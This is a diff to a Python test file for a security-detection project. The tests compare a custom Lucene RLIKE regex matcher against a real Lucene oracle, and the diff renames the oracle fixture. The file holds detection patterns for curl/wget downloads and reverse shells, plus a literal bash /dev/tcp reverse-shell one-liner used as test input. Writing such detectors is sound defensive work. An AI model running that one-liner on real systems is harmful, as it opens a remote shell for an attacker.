@@ -10,7 +10,6 @@ from __future__ import annotations
 import functools
 import re
 import threading
-from collections.abc import Iterator
 
 import pytest
 from hypothesis import HealthCheck, assume, given, settings
@@ -18,7 +17,7 @@ from hypothesis import strategies as st
 
 from detections.errors import QuerySyntaxError
 from detections.esql.lucene_regexp import RlikeMatcher, build_dfa_matcher, compile_rlike
-from tests.oracle.lucene.oracle_client import LuceneOracle, OracleUnavailable
+from tests.oracle.lucene.oracle_client import LuceneOracle
 
 CURL = r".*(curl.*https|wget.*https).*"
 CURL_EXCLUDE = (
@@ -372,16 +371,6 @@ def test_re2_path_agrees_with_dfa_path(pattern: str, texts: list[str]) -> None:
 # -- the real Lucene -------------------------------------------------------------------------------
 
 
-@pytest.fixture(scope="module")
-def lucene() -> Iterator[LuceneOracle]:
-    try:
-        oracle = LuceneOracle()
-    except OracleUnavailable as missing:
-        pytest.skip(str(missing))
-    yield oracle
-    oracle.close()
-
-
 @functools.lru_cache(maxsize=16)
 def _compiled(pattern: str) -> RlikeMatcher | str:
     try:
@@ -398,7 +387,7 @@ def _ours(pattern: str, text: str) -> str:
 
 
 @pytest.mark.parametrize("pattern", [CURL, CURL_EXCLUDE, REVERSE_SHELL, LOCAL_TCP])
-def test_seed_patterns_against_lucene(lucene: LuceneOracle, pattern: str) -> None:
+def test_seed_patterns_against_lucene(lucene_oracle: LuceneOracle, pattern: str) -> None:
     texts = [
         "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
         "bash -i >& 0>&1",
@@ -409,14 +398,16 @@ def test_seed_patterns_against_lucene(lucene: LuceneOracle, pattern: str) -> Non
         "",
     ]
     for text in texts:
-        assert _ours(pattern, text)[0] == lucene.ask("rlike", pattern, text)[0], text
+        assert _ours(pattern, text)[0] == lucene_oracle.ask("rlike", pattern, text)[0], text
 
 
 @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(_PATTERNS, st.lists(_RICH_TEXTS, min_size=1, max_size=4))
-def test_agrees_with_real_lucene(lucene: LuceneOracle, pattern: str, texts: list[str]) -> None:
+def test_agrees_with_real_lucene(
+    lucene_oracle: LuceneOracle, pattern: str, texts: list[str]
+) -> None:
     for text in texts:
-        theirs = lucene.ask("rlike", pattern, text)
+        theirs = lucene_oracle.ask("rlike", pattern, text)
         assume(not theirs.startswith("T"))  # Lucene's own determinization budget
         ours = _ours(pattern, text)
         assert ours[0] == theirs[0], (pattern, text, ours, theirs)
